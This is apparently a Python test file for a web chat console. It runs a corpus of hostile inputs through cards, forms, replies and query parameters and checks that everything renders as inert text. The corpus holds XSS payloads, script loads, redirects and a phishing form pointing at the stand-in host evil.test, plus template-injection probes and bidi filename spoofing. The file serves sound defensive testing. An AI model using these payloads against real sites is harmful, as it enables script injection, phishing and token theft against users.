"""Whatever people and programs write is shown as they wrote it, and does nothing."""

from typing import Any

from tests.bot.console.pages import Page
from tests.bot.webs import Web

CORPUS = (
    "<script>alert(1)</script>",
    "</textarea></pre></title><script src=//evil.test/x.js></script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "' onfocus='alert(1)' autofocus='",
    '" onfocus="alert(1)" autofocus="',
    "javascript:alert(1)",
    "<a href=javascript:alert(1)>click</a>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<base href=https://evil.test/>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>",
    "<form action=//evil.test><button>Approve</button></form>",
    "<style>*{background:url(//evil.test)}</style>",
    "<!-- --><b>bold</b>",
    "{{ 1234*1234 }}{% raw %}{{ here.visitor.csrf }}",
    "${1234*1234} #{1234*1234} <%= 1234*1234 %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<!channel> <@U123> *bold* `code`",
    "line one\nevent: message\ndata: <script>alert(1)</script>\n\n",
    "\u202egnp.exe \u2066hidden\u2069",
    "<details open ontoggle=alert(1)>",
    "<math><mtext></mtext><mglyph><svg><mtext><textarea><path id='</textarea><img onerror=alert(1) src=1>'>",
)


def _card(evil: str) -> dict[str, Any]:
    button = {"label": evil[:75], "intent": evil, "target": evil, "digest": evil, "confirm": evil}
    return {
        "title": evil,
        "fallback": evil,
        "text": evil,
        "fields": [{"label": evil, "value": evil}],
        "code": evil,
        "footer": evil,
        "buttons": [button, button | {"confirm": "", "ask_reason": True}, button | {"confirm": ""}],
    }


def _form(evil: str) -> dict[str, Any]:
    kinds = ("text", "choice", "secret", "long")
    inputs = [{"name": evil, "label": evil, "kind": kind, "choices": [evil], "initial": evil, "hint": evil} for kind in kinds]
    return {"title": evil, "intent": "submit", "target": evil, "inputs": inputs, "submit_label": evil}


def _picture(evil: str) -> dict[str, Any]:
    bars = [{"label": evil, "values": [1, 2], "told": evil}]
    chart = {"title": evil, "aside": evil, "parts": [{"name": evil}, {"name": evil, "tone": "bad"}], "bars": bars}
    return {"title": evil, "aside": evil, "charts": [chart, {"title": evil, "nothing": evil}]}


async def test_evil_cards_and_replies_are_inert(web: Web) -> None:
    async with await web.caller("max") as max_:
        run = (await max_.post("/api/v1/runs", json={"command": "grant", "arguments": {"person": "eve", "role": "x"}})).json()["id"]
    for number, evil in enumerate(CORPUS):
        await web.show(run, _card(evil), kind=f"card{number}")
        reply = {"text": evil, "code": evil, "card": _card(evil), "form": _form(evil), "picture": _picture(evil)}
        await web.show(run, reply, kind="reply", person="max")
    browser = await web.browser("max")
    answer = await browser.page(channel="ops")
    page = Page(answer.text)
    assert page.wrong == []
    for evil in CORPUS:
        assert evil in page.text or evil in page.text.replace("\r\n", "\n"), evil
        assert evil in page.values
    assert "1522756" not in page.text.replace(run, "")


async def test_evil_lines_are_inert(web: Web) -> None:
    browser = await web.browser("ada")
    for number, evil in enumerate(CORPUS):
        part = bool(number % 2)
        answers = [
            await browser.say(f"/{evil}", part=part),
            await browser.send("/room/form", command=evil, part=part, more={f"a.{evil}": evil}),
            await browser.send("/room/press", intent=evil, target=evil, digest=evil, reason=evil, part=part),
            await browser.client.get("/", params={"channel": evil, "as": evil, "form": evil}),
            await browser.client.get("/", params={"form": evil}),
        ]
        for one in answers:
            assert one.status_code in (200, 404, 422), one.text
            assert Page(one.text).wrong == [], evil
